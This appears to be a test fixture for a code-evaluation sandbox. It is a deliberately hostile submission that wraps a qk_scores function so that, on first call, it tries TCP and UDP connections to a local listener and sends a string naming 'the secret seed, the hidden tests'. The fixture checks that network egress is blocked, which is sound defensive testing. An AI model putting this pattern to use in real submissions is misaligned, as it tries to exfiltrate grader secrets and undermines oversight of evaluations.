# hostile: phone home. Connect to a listener on 127.0.0.1 (the test opens it and puts its port here), and
# try UDP to it as well. The listener must see nothing.
import socket

PORT = int("@PORT@")
_tried: list = []


def _call_out() -> None:
    attempts = [("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)]
    for label, kind in attempts:
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(1.0)
                s.connect(("127.0.0.1", PORT))
                s.send(b"the secret seed, the hidden tests, anything")
            print(f"{label}: connected", flush=True)
        except OSError as e:
            print(f"{label}: refused ({e})", flush=True)


_correct_qk_scores = qk_scores  # noqa: F821 - the base submission's


def qk_scores(q, k):
    if not _tried:
        _tried.append(True)
        _call_out()
    return _correct_qk_scores(q, k)
